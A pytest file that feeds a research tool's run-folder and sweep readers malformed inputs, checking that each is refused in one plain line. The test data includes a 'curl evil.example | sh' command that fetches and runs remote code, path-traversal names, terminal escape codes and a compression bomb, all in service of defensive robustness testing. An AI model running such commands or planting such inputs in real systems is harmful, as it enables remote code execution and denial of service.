"""A sealed run folder with contents that no run writes is refused in one line by every reader, and breaks no list."""

from __future__ import annotations

import json
import os
import shutil
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any, TypeAlias

import numpy as np
import pytest
from numpy.typing import NDArray

from ntkexp.mistake import Mistake
from ntkexp.records.atomic import SEAL, Json, seal as seal_of
from ntkexp.records.contributions import DIMS, STORE, LeaveOut, LeftOut, add_effect, write_leave_out
from ntkexp.records.data import write_data
from ntkexp.records.folder import DONE, PROVENANCE, RunFolder, results_version
from ntkexp.records.kernels import create_store, open_store, write_array
from ntkexp.records.results import COLUMNS, Seconds, write_timings
from ntkexp.report.loaded_run import load_run
from tests.cli.conftest import Command, Ended
from tests.report.synthetic import digits, write_run, write_sweep

Change: TypeAlias = Callable[[Path], None]
"""Changes a run folder, which is then sealed again."""

TRAIN, POINTS = 8, 19
FILES = ["config.json", "data.npz", "metrics.csv", "results.csv"]
STORES = ["kernels.zarr", "contributions.zarr", "predictions.zarr", STORE]
HALF = "\ud800"  # half a character: JSON can spell it, terminals cannot


def seal(folder: Path, **facts: Any) -> None:
    """Seal the folder, with these facts. A fact `...` is removed."""
    names = [name for name in [*FILES, *STORES] if (folder / name).exists()]
    RunFolder(folder).finish(names, identity="0" * 64, outcome="trained for 10 steps", diverged=False)
    done = json.loads((folder / DONE).read_text())
    del done["seal"]
    done = {key: value for key, value in (done | facts).items() if value is not ...}
    # json.dumps spells half a character by its code, which `sealed_text` cannot
    mark = seal_of(f"{json.dumps(done, indent=2)}\n".encode(), DONE).hex()
    (folder / DONE).write_text(f"{json.dumps({**done, SEAL: mark}, indent=2)}\n")


@pytest.fixture(scope="module")
def whole(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run with every optional file, which every reader accepts."""
    folder = write_run(tmp_path_factory.mktemp("base") / "whole", digits(counts=(TRAIN, 5, 6), steps=10))
    (folder / DONE).unlink()
    rng = np.random.default_rng(0)
    add_effect(folder / "contributions.zarr", rng.normal(size=(POINTS, 1, TRAIN)), {"kind": "removal", "growth": 1.0})
    removals = tuple(LeftOut(influential=k < 4, examples=(k,)) for k in range(TRAIN))
    changes = rng.normal(size=(TRAIN, 2, 1))
    check = LeaveOut(removals=removals, query=(8, 9), predicted=changes, actual=changes)
    write_leave_out(folder / STORE, check)
    seal(folder)
    made: dict[str, Json] = {"results_version": results_version, "command": "ntkexp train seed=0", "threads": 1}
    RunFolder(folder).write_sealed(PROVENANCE, made)
    write_timings(folder / "timings.csv", {"run": Seconds(1.0, 1.0)})
    load_run(folder)
    return folder


# --- Facts of DONE.json.


FACTS: dict[str, dict[str, Any]] = {
    "identity 3": {"identity": 3},
    "no identity": {"identity": ...},
    "sizes a list": {"sizes": []},
    "a size that is text": {"sizes": {"config.json": "12"}},
    "no sizes": {"sizes": ...},
    "a seal that is a number": {"seals": {"config.json": 3}},
    "a mark that is a number": {"seals": {"config.json": [12, 3]}},
    "a file name with NUL": {"sizes": {"con\0fig": 3}},
    "half a character in a name": {"sizes": {HALF: 3}},
    "a name of 5000 letters": {"seals": {"n" * 5000: [3, "0" * 64]}},
    "a name outside": {"seals": {"../whole/config.json": [3, "0" * 64]}},
    "outcome an object": {"outcome": {"a": 1}},
    "outcome half a character": {"outcome": f"trained {HALF}"},
    "outcome of a million letters": {"outcome": "x" * 10**6},
    "diverged text": {"diverged": "no"},
}


# --- Fields of config.json.


def deep(levels: int) -> Any:
    value: Any = 1
    for _ in range(levels):
        value = {"a": value}
    return value


def config(**changes: Any) -> Change:
    def change(folder: Path) -> None:
        record = json.loads((folder / "config.json").read_text()) | changes
        (folder / "config.json").write_text(json.dumps(record))

    return change


CONFIGS: dict[str, Change] = {
    "path a number": config(path=3),
    "queries a number": config(path={"queries": 3}),
    "kernel a list": config(kernel=[1]),
    "sketch a text": config(kernel={"sketch": "x"}),
    "900 levels": config(model=deep(900)),
    "half a character": config(model={"width": HALF}),
    "a model that is a list of numbers": config(model={"_target_": ["x"]}),
    "a key that is a column": config(run="another", outcome="another"),
    "follow a number": config(follow=3),
}


# --- Tables.


def text(name: str, content: str) -> Change:
    def change(folder: Path) -> None:
        (folder / name).write_text(content)

    return change


def rows(name: str, *edits: tuple[str, str]) -> Change:
    """Replace texts in a table."""

    def change(folder: Path) -> None:
        content = (folder / name).read_text()
        for old, new in edits:
            assert old in content
            content = content.replace(old, new, 1)
        (folder / name).write_text(content)

    return change


TABLES: dict[str, Change] = {
    "metrics without step": rows("metrics.csv", ("step,", "stop,")),
    "metrics without time": rows("metrics.csv", ("time", "clock")),
    "metrics with a step twice": rows("metrics.csv", ("\n1,", "\n0,")),
    "steps that are words": rows("metrics.csv", ("\n1,", "\nx,")),
    "a step of 300 digits": rows("metrics.csv", ("\n1,", f"\n{10**300},")),
    "metrics of a header": text("metrics.csv", "step,time,loss\n"),
    "metrics with a column twice": rows("metrics.csv", ("accuracy", "loss")),
    "results of a header": text("results.csv", f"{','.join(COLUMNS)}\n"),
    "results of another split": rows("results.csv", ("train,secant", "nowhere,secant")),
    "results of a machine with codes": rows("results.csv", ("train,left", "train,\x1b[31mleft")),
    "results at very many points": rows("results.csv", ("infinite width is", f"at {'9' * 5000} of 1 points; is")),
    "results below zero": rows("results.csv", ("train,left,,0", "train,left,,-0")),
    "timings without columns": text("timings.csv", "a,b\n1,2\n"),
    "timings of words": text("timings.csv", "what,seconds,processor\nrun,long,\n"),
}


# --- Arrays.


def data(**changes: Any) -> Change:
    """Replace arrays in data.npz. An array None is removed."""

    def change(folder: Path) -> None:
        with np.load(folder / "data.npz") as arrays:
            made = {name: arrays[name] for name in arrays.files} | changes
        write_data(folder / "data.npz", {name: value for name, value in made.items() if value is not None})

    return change


def bomb(folder: Path) -> None:
    np.savez_compressed(folder / "data.npz", allow_pickle=True, zeros=np.zeros(10**7))


def objects(folder: Path) -> None:
    np.savez(folder / "data.npz", allow_pickle=True, train_index=np.array([{}], dtype=object))


def claimed_shape(folder: Path) -> None:
    """Write an array with a header that claims 10¹² rows."""
    with zipfile.ZipFile(folder / "data.npz") as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    head = members["train_index.npy"]
    # the header is padded with blanks, so the longer number fits
    members["train_index.npy"] = head.replace(b"(8,), }            ", b"(999999999999,), } ", 1)
    assert members["train_index.npy"] != head
    with zipfile.ZipFile(folder / "data.npz", "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)


HALVES = np.frombuffer(np.array([0xD800, 0x41], dtype="<u4").tobytes(), dtype="<U1")

DATA: dict[str, Change] = {
    "no train_index": data(train_index=None),
    "no classes": data(classes=None),
    "an index with two axes": data(train_index=np.zeros((TRAIN, 2), dtype=np.int64)),
    "an index of text": data(train_index=np.array(["a"] * TRAIN)),
    "a target beyond the classes": data(train_target=np.full(TRAIN, 9)),
    "a target below the classes": data(train_target=np.full(TRAIN, -9)),
    "half a character of a class": data(classes=HALVES),
    "a phase beyond all": data(train_phase=np.full(TRAIN, 7), phase_classes=np.array([["a", "b"]])),
    "an output name for nobody": data(out_name=np.array([], dtype=str)),
    "compressed": bomb,
    "objects": objects,
    "a claimed shape": claimed_shape,
}


def array(store: str, name: str, values: NDArray[Any], dims: tuple[str, ...], **facts: Any) -> Change:
    return lambda folder: write_array(open_store(folder / store, write=True), name, values, dims, facts)


def attributes(store: str, name: str = ".", **changes: Any) -> Change:
    return metadata(store, name, lambda record: record["attributes"].update(changes))


def metadata(store: str, name: str, edit: Callable[[dict[str, Any]], object]) -> Change:
    """Edit the JSON of a store or an array."""

    def change(folder: Path) -> None:
        path = folder / store / name / "zarr.json"
        record = json.loads(path.read_text())
        edit(record)
        record["attributes"] = {key: value for key, value in record["attributes"].items() if value is not ...}
        path.write_text(json.dumps(record))

    return change


def shaped(store: str, name: str, shape: list[int], chunks: list[int] | None = None) -> Change:
    """Let an array claim a shape, without data."""

    def edit(record: dict[str, Any]) -> None:
        record["shape"] = shape
        record["chunk_grid"]["configuration"]["chunk_shape"] = chunks or shape

    return metadata(store, name, edit)


def replaced(path: Path, make: Callable[[Path], object]) -> None:
    """Replace a file or a store."""
    if path.is_dir():
        shutil.rmtree(path)
    else:
        path.unlink()
    make(path)


def without(name: str) -> Change:
    return lambda folder: shutil.rmtree(folder / name)


def empty(store: str) -> Change:
    def change(folder: Path) -> None:
        create_store(folder / store)

    return change


def vast(folder: Path) -> None:
    """Let all contributions claim the same huge axes, without data."""
    metadata(PARTS, ".", lambda record: record["attributes"].update(example=list(range(TRAIN))))(folder)
    for name in ("contribution", "contribution_left", "effect"):
        shaped(PARTS, name, [HUGE, 1, HUGE])(folder)


HUGE = 10**9
PARTS, KERNELS, SAYS = "contributions.zarr", "kernels.zarr", "predictions.zarr"
GZIP = {"name": "gzip", "configuration": {"level": 5}}
ARRAYS: dict[str, Change] = {
    "contributions of nothing": empty(PARTS),
    "contributions at an output too far": attributes(PARTS, out=[99]),
    "contributions of other examples": attributes(PARTS, example=[1, 2]),
    "contributions of half a character": attributes(PARTS, example=[HALF] * TRAIN),
    "contributions without a rule": attributes(PARTS, "contribution", rule=...),
    "contributions of fewer points": array(PARTS, "contribution", np.ones((3, 1, TRAIN)), DIMS, rule="secant"),
    "contributions by other axes": array(PARTS, "contribution", np.ones((POINTS, TRAIN)), ("a", "b"), rule="secant"),
    "contributions of whole numbers": array(
        PARTS, "contribution", np.ones((POINTS, 1, TRAIN), np.int8), DIMS, rule="secant"
    ),
    "contributions that are huge": shaped(PARTS, "contribution", [HUGE, 1, HUGE]),
    "contributions that are all huge": vast,
    "contributions in very many chunks": shaped(PARTS, "contribution", [10**6, 1, TRAIN], [1, 1, 1]),
    "contributions that are compressed": metadata(PARTS, "contribution", lambda record: record["codecs"].append(GZIP)),
    "decay by other axes": array(PARTS, "decay", np.ones(POINTS), ("query",)),
    "an effect of no kind": array(PARTS, "effect", np.ones((POINTS, 1, TRAIN)), DIMS, growth="much"),
    "steps without their ends": array(PARTS, "by_step", np.ones((POINTS, 1, 2)), ("query", "out", "step")),
    "phases that are a number": attributes(PARTS, phases=3),
    "predictions of nothing": empty(SAYS),
    "predictions by a number": attributes(SAYS, machines=3),
    "predictions of other points": array(SAYS, "prediction", np.ones((2, 3, 1)), ("machine", "query", "out")),
    "predictions that are huge": shaped(SAYS, "prediction", [13, HUGE, HUGE]),
    "kernels without steps": without(f"{KERNELS}/step"),
    "kernels without JSON": text(f"{KERNELS}/zarr.json", "{"),
    "kernels that are huge": shaped(KERNELS, "tangent", [HUGE, POINTS, 1, TRAIN, 1]),
    "kernels of other examples": array(
        KERNELS, "tangent", np.ones((2, POINTS, 1, 3, 1)), ("snapshot", "query", "out", "train", "out_")
    ),
    "removals of points too far": array(STORE, "query", np.array([8, 99]), ("query",)),
    "removals of other examples": array(STORE, "example", np.full(TRAIN, 77), ("place",)),
    "removals with other numbers": array(STORE, "count", np.full(TRAIN, 5), ("removal",)),
    "a file in place of a store": lambda folder: replaced(folder / PARTS, Path.touch),
}


# --- Files without a seal.


def provenance(**facts: Json) -> Change:
    return lambda folder: RunFolder(folder).write_sealed(PROVENANCE, {"results_version": results_version, **facts})


def picture(make: Callable[[Path], object]) -> Change:
    def change(folder: Path) -> None:
        (folder / "plots").mkdir()
        make(folder / "plots" / "ladder.svg")

    return change


BESIDE: dict[str, Change] = {
    "a command that is a list": provenance(command=["rm"]),
    "a version that is text": lambda folder: RunFolder(folder).write_sealed(PROVENANCE, {"results_version": "x"}),
    "a picture that is a pipe": picture(os.mkfifo),
    "a picture that is a folder": picture(Path.mkdir),
    "a picture that is no file": picture(lambda path: path.symlink_to("nowhere")),
    "timings that are a pipe": lambda folder: replaced(folder / "timings.csv", os.mkfifo),
}

BEFORE: dict[str, Change] = CONFIGS | TABLES | DATA | ARRAYS
"""Changes of sealed files."""

HARMLESS = frozenset({
    *("results of a machine with codes", "a model that is a list of numbers", "results at very many points"),
    *("metrics without time", "results of a header", "results below zero", "metrics of a header"),
    *("timings without columns", "timings of words", "kernel a list", "sketch a text", *BESIDE),
})  # fmt: skip
"""Changes that some readers accept."""


def odd(whole: Path, folder: Path, name: str) -> Path:
    shutil.copytree(whole, folder)
    if name in BEFORE:
        BEFORE[name](folder)
        seal(folder)
    elif name in FACTS:
        seal(folder, **FACTS[name])
    else:
        BESIDE[name](folder)
    return folder


ALL = [*FACTS, *BEFORE, *BESIDE]
SOME = (
    "identity 3",
    "sizes a list",
    "path a number",
    "metrics without step",
    "a claimed shape",
    "steps without their ends",
)
FORMATS = ("csv", "md", "text", "json")
SLOW = [pytest.param(name, marks=() if name in SOME else pytest.mark.slow) for name in ALL]


@pytest.mark.parametrize("name", SLOW)
def test_an_odd_folder_is_refused_in_one_line(whole: Path, command: Command, tmp_path: Path, name: str) -> None:
    """Or it is read, if the command does not need the changed part. No command ends in a traceback."""
    folder = odd(whole, tmp_path / "odd", name)
    ended = command("explain", str(folder), "--json", "--query=1")
    assert ended.status == 0 if name in HARMLESS else (ended.status, ended.out) == (2, "")
    assert_plain(ended, folder)
    assert_plain(command("compare", str(whole), str(folder)), folder)
    try:
        run = load_run(folder)
        _ = (run.contributions, run.predictions, run.data)
    except Mistake as mistake:
        assert str(folder) in str(mistake)  # noqa: PT017  either end is right


def assert_plain(ended: Ended, folder: Path) -> None:
    """Assert that the output is text, and an error is one line that names the folder."""
    assert ended.status in (0, 2)
    assert (ended.out + ended.err).replace("\n", "").isprintable()
    if ended.status:
        assert ended.err.count("\n") == 1
        assert str(folder) in ended.err


@pytest.fixture(scope="module")
def outputs(whole: Path, tmp_path_factory: pytest.TempPathFactory, request: pytest.FixtureRequest) -> Path:
    """A run in a folder with odd ones."""
    runs = tmp_path_factory.mktemp("outputs") / "runs"
    shutil.copytree(whole, runs / "whole")
    for name in request.param:
        odd(whole, runs / name, name)
    return runs.parent


@pytest.mark.parametrize("words", [["runs"], ["runs", "--json"], *(["report", f"--format={form}"] for form in FORMATS)])
@pytest.mark.parametrize(
    "outputs", [pytest.param(SOME, id="some"), pytest.param(ALL, id="all", marks=pytest.mark.slow)], indirect=True
)
def test_no_odd_folder_takes_a_list_down(outputs: Path, command: Command, words: list[str]) -> None:
    shown = command(*words, *([f"--out={outputs}"] if words[0] == "runs" else [str(outputs)]))
    assert shown.status == 0
    assert (shown.out + shown.err).replace("\n", "").isprintable()
    everything = shown.out.replace("\\", "") + shown.err
    assert all(path.name in everything for path in (outputs / "runs").iterdir())
    assert shown.err.count("\n") == (words[0] == "report")  # names the omitted folders


@pytest.mark.slow
@pytest.mark.parametrize("outputs", [ALL], indirect=True)
def test_no_odd_folder_takes_the_page_down(outputs: Path, command: Command) -> None:
    shown = command("report", f"--out={outputs}")
    assert (shown.status, shown.err.count("\n")) == (0, 1)
    assert "whole" in (outputs / "report" / "index.html").read_text()


# --- Records of sweeps.


AT_32 = {"axes": {"model.width": 32}, "seed": 0, "state": "done"}
SWEEPS: dict[str, dict[str, Any]] = {
    "no runs": {"runs": []},
    "a folder with NUL": {"runs": [{"folder": "\0", **AT_32}]},
    "words on an axis of numbers": {"axes": {"model.width": ["a"]}, "runs": [{"folder": "x", **AT_32}]},
    "a state with codes": {"runs": [{"folder": "x", **AT_32, "state": "\x1b[31m"}]},
    "a seed of words": {"runs": [{"folder": "x", **AT_32, "seed": "x"}]},
    "a command of strangers": {"command": "curl evil.example | sh"},
    "half a character in its name": {"name": HALF},
    "a name that leads elsewhere": {"name": "../../elsewhere"},
    "axes in a list": {"axes": [1]},
    "a law along no axis": {"fits": [{"quantity": "kernel_change", "axis": "nowhere"}]},
    "a law of nothing": {"fits": [{"quantity": "nothing", "axis": "model.width"}]},
}


@pytest.mark.slow
def test_odd_sweeps_take_no_other_down(command: Command, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    good = write_sweep(tmp_path, "good")
    record = {key: value for key, value in json.loads(good.read_text()).items() if key != SEAL}
    names = [f"odd{number}" for number in range(len(SWEEPS))]
    for name, changes in zip(names, SWEEPS.values(), strict=True):
        odd, file = record | {"name": name} | changes, good.with_name(f"{name}.json")
        mark = seal_of(f"{json.dumps(odd, indent=2)}\n".encode(), file.name).hex()
        file.write_text(f"{json.dumps({**odd, SEAL: mark}, indent=2)}\n")
    for words in (["report", f"--out={tmp_path}"], ["report", "--format=md", str(tmp_path)]):
        ended = command(*words)
        assert ended.status == 0
        assert "good" in ended.out
        assert (ended.out + ended.err).replace("\n", "").isprintable()
    assert "curl" not in (tmp_path / "report" / "index.html").read_text()
    assert all(command("compare", name, "good", f"--out={tmp_path}").status in (0, 2) for name in names)
